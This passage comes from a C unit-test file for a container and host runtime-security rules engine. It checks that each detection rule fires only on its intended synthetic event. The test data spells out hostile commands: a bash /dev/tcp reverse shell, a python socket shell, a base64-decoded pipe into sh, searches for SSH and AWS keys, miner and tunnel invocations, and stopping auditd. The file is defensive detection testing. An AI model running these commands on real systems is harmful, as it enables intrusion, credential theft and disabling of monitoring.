	{ IN_CONTAINER "\"proc.vpid\":1,\"thread.cap_effective\":\"CAP_CHOWN CAP_SYS_ADMIN\"," PROGRAM("/usr/bin/x", "x", "", "runc") "}",
	  "Container with high privileges," },
	{ IN_CONTAINER "\"proc.vpid\":1,\"thread.cap_effective\":\"CAP_CHOWN CAP_NET_RAW\"," PROGRAM("/usr/bin/x", "x", "", "runc") "}", "" },
	{ IN_CONTAINER "\"proc.vpid\":9,\"container.privileged\":true," PROGRAM("/usr/bin/x", "x", "", "runc") "}", "" },
	/* programs */
	{ ON_HOST PROGRAM("/usr/bin/find", "find", "/ -name id_rsa", "bash") "}", "Search for keys or passwords," },
	{ ON_HOST PROGRAM("/usr/bin/grep", "grep", "-r AKIA /srv", "bash") "}", "Search for keys or passwords," },
	{ ON_HOST PROGRAM("/usr/bin/find", "find", "/ -name x", "bash") "}", "" },
	{ IN_CONTAINER PROGRAM("/usr/bin/kubectl", "kubectl", "get pods", "x") "}", "Engine or cluster client in a container," },
	{ IN_CONTAINER PROGRAM("/usr/sbin/debugfs", "debugfs", "-V", "x") "}", "Debugger of file systems in a container," },
	{ IN_CONTAINER "\"container.privileged\":true," PROGRAM("/usr/bin/mount", "mount", "/dev/sda1 /mnt", "x") "}",
	  "Mount program in a privileged container," },
	{ EXEC "\"container.id\":\"01\",\"proc.cwd\":\"/sys/fs/cgroup/\"," PROGRAM("/bin/cat", "cat", "x", "x") "}",
	  "Program started with the cgroup folder as its own," },
	{ IN_CONTAINER "\"proc.vpid\":1,\"container.mount.dest[/]\":\"/host\"," PROGRAM("/bin/x", "x", "", "x") "}",
	  "Container started with a folder of the host that is the host," },
	{ ON_HOST PROGRAM("/usr/bin/bash", "bash", "-c bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "x") "}",
	  "Remote shell on the command line," },
	{ ON_HOST PROGRAM("/usr/bin/python3.11", "python3", "-c import socket,os;os.dup2(1,2)", "x") "}",
	  "Remote shell on the command line," },
	{ ON_HOST PROGRAM("/usr/bin/python3.11", "python3", "-c import socket", "x") "}", "" },
	{ ON_HOST PROGRAM("/usr/bin/id", "id", "", "nginx") "}", "Server started a tool to look around or to download," },
	{ ON_HOST PROGRAM("/usr/bin/ls", "ls", "", "mysqld") "}",
	  "Server started a tool to look around or to download,Database started another program," },
	{ ON_HOST PROGRAM("/opt/x", "xmrig", "-o x", "bash") "}", "Miner of a cryptocurrency," },
	{ ON_HOST PROGRAM("/opt/x", "x", "-o stratum+tcp://x:1", "bash") "}", "Miner of a cryptocurrency," },
	{ ON_HOST PROGRAM("/opt/x", "chisel", "client x", "bash") "}", "Tunnel or proxy program," },
	{ IN_CONTAINER PROGRAM("/usr/bin/ssh", "ssh", "-fNR 9:x:22 u@h", "x") "}", "Tunnel or proxy program," },
	{ IN_CONTAINER PROGRAM("/usr/bin/ssh", "ssh", "u@h", "x") "}", "" },
	{ IN_CONTAINER PROGRAM("/usr/bin/nmap", "nmap", "-sn x", "x") "}", "Scanner or sniffer in a container," },
	{ ON_HOST PROGRAM("/usr/bin/nmap", "nmap", "-sn x", "bash") "}", "Scanner on the host," },
	{ IN_CONTAINER PROGRAM("/usr/bin/scp", "scp", "x", "x") "}", "File copied to or from another machine in a container," },
	{ IN_CONTAINER PROGRAM("/usr/bin/crontab", "crontab", "-l", "x") "}", "Crontab in a container," },
	{ ON_HOST PROGRAM("/usr/bin/crontab", "crontab", "-l", "bash") "}", "" },
	{ ON_HOST "\"proc.env[LD_PRELOAD]\":\"/tmp/x.so\"," PROGRAM("/usr/bin/id", "id", "", "bash") "}",
	  "Program started with a library of a temporary folder," },
	{ ON_HOST PROGRAM("/usr/sbin/useradd", "useradd", "x", "bash") "}", "Account made or changed," },
	{ ON_HOST "\"proc.aexepath\":\"/usr/bin/dpkg\"," PROGRAM("/usr/sbin/useradd", "useradd", "x", "sh") "}", "" },
	{ ON_HOST "\"user.name\":\"daemon\"," PROGRAM("/bin/login", "login", "", "x") "}", "User of a service works interactively," },
	{ ON_HOST "\"user.loginuid\":1000," PROGRAM("/usr/bin/pkexec", "pkexec", "", "bash") "}", "Exploit of sudo, pkexec or the loader," },
	{ ON_HOST PROGRAM("/usr/bin/shred", "shred", "-u x", "bash") "}", "Data removed in bulk," },
	{ ON_HOST PROGRAM("/usr/bin/bash", "bash", "-c echo x | base64 -d | sh", "x") "}", "Decoded text given to a shell," },
	{ ON_HOST PROGRAM("/usr/bin/chattr", "chattr", "+i x", "bash") "}", "File made unchangeable," },
	{ ON_HOST PROGRAM("/usr/bin/systemctl", "systemctl", "stop auditd", "bash") "}", "Protection of the host switched off," },
	{ ON_HOST PROGRAM("/usr/bin/systemctl", "systemctl", "stop picket-agent", "bash") "}", "Picket's agent stopped or looked into," },
	{ CALL_EVENT("connect", "01") BY("curl", "/usr/bin/curl") "\"fd.typechar\":\"4\",\"evt.rawres\":0,\"fd.sip\":\"10.96.0.1\","
	  "\"fd.sip.name\":\"kubernetes.default.svc.cluster.local\"}", "Kubernetes API contacted by a tool in a container," },
};

struct seen {
	struct buf names;
};

static void seen_match(void *arg, const struct rules_match *m)
{
	struct seen *s = arg;

	buf_printf(&s->names, "%s,", m->rule);
	assert_true(m->description[0] && m->tag_count > 2);
	assert_int_equal(strchr(m->description, '\n'), NULL);
	assert_true(slice_find(m->output, SLICE_LIT("container_id=")) > 0);
	assert_true(slice_find_char(m->output, '%') < 0);
}

static void run(struct rules *r, const char *event, struct seen *s)
{
	CLEANUP(cJSON_Deletep) cJSON *json = NULL;

	assert_int_equal(json_parse(slice_of(event), 1 << 20, &json, NULL), 0);
	struct rules_source src = rules_json_source(json);
	buf_reset(&s->names);
	(void)rules_eval(r, cJSON_GetStringValue(cJSON_GetObjectItem(json, "evt.type")), &src, seen_match, s);
}

static void each_rule_fires_on_what_it_is_for_and_on_nothing_else(void **state)
{
	CLEANUP(rules_freep) struct rules *r = NULL;
	struct rules_report report;
	struct err err = { 0 };
	struct seen s = { 0 };
	unsigned bad = 0;

	(void)state;
	if (rules_load(paths, ARRAY_LEN(paths), &r, &report, &err) < 0)
		fail_msg("%s", err.msg);
	assert_int_equal(report.warnings, 0);
	assert_int_equal(rules_count(r), RULES);
	assert_true(rules_wants(r, "execve") && rules_wants(r, "open") && !rules_wants_all(r));
	assert_false(rules_wants(r, "accept") || rules_wants(r, "recvfrom") || rules_wants(r, "procexit"));
	buf_init(&s.names, 0);
	for (size_t i = 0; i < ARRAY_LEN(cases) + ARRAY_LEN(calls); i++) {
		const char *event = i < ARRAY_LEN(cases) ? cases[i].event : calls[i - ARRAY_LEN(cases)].event;
		const char *want = i < ARRAY_LEN(cases) ? cases[i].want : calls[i - ARRAY_LEN(cases)].want;

		run(r, event, &s);
		if (!slice_is(buf_slice(&s.names), want))
			print_error("%s\nraises '%.*s', not '%s'\n", event, SLICE_FMT(buf_slice(&s.names)), want), bad++;
	}
	assert_int_equal(bad, 0);
	buf_fini(&s.names);
	rules_report_fini(&report);
}

/* As the comment in the file says. */
static void the_allowed_list_speaks_once_it_is_configured(void **state)
{
	static const char own[] = "- list: allowed_processes\n  items: [nginx]\n  override: {items: append}\n"
				  "- macro: allowed_processes_configured\n"
				  "  condition: (container.image.repository = nginx)\n";
	static const struct {
		const char *event, *want;
	} rows[] = {
		{ IN_CONTAINER "\"container.image.repository\":\"nginx\",\"proc.name\":\"nginx\"}", "" },
		{ IN_CONTAINER "\"container.image.repository\":\"nginx\",\"proc.name\":\"id\"}",
		  "Program outside the allowed list," },
		{ IN_CONTAINER "\"container.image.repository\":\"redis\",\"proc.name\":\"id\"}", "" },
		{ ON_HOST "\"proc.name\":\"id\"}", "" },
	};
	CLEANUP(rules_freep) struct rules *r = NULL;
	CLEANUP(buf_finip) struct buf text = { 0 };
	struct err err = { 0 };
	struct seen s = { 0 };

	(void)state;
	assert_true(file_read(paths[0], 1 << 20, &text, NULL) >= 0);
	buf_add_str(&text, own);
	if (rules_load_text("both", buf_slice(&text), &r, NULL, &err) < 0)
		fail_msg("%s", err.msg);
	buf_init(&s.names, 0);
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		run(r, rows[i].event, &s);
		assert_true(slice_is(buf_slice(&s.names), rows[i].want));
	}
	buf_fini(&s.names);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_rule_fires_on_what_it_is_for_and_on_nothing_else),
		cmocka_unit_test(the_allowed_list_speaks_once_it_is_configured),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
